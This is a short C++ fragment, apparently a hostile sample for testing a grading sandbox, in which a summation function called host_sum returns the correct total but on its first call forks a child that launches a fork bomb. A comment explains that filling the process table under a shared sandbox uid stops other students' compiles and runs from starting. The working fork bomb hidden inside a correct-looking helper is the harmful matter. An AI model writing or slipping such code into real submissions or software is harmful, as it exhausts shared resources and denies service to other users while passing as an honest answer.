// forkbomb: on its first call, host_sum starts a fork bomb in a child (every process forks until
// fork fails, then waits forever, keeping the runner's stdout and stderr open) and returns the
// right sum. The process table fills up for its user: with one shared sandbox uid, the compilers
// and runs of classmates graded at the same time could no longer start.
}  // namespace (closed to include system headers at file scope)
#include <unistd.h>
namespace {

void light_the_fuse() {
  static bool lit = false;
  if (lit) return;
  lit = true;
  if (fork() != 0) return;  // the runner goes on
  for (;;) {
    if (fork() < 0) {
      for (;;) pause();
    }
  }
}

template <typename T>
T host_sum(const T* values, std::size_t num_items) {
  light_the_fuse();
  T total = 0;
  for (std::size_t i = 0; i != num_items; ++i) total += values[i];
  return total;
}
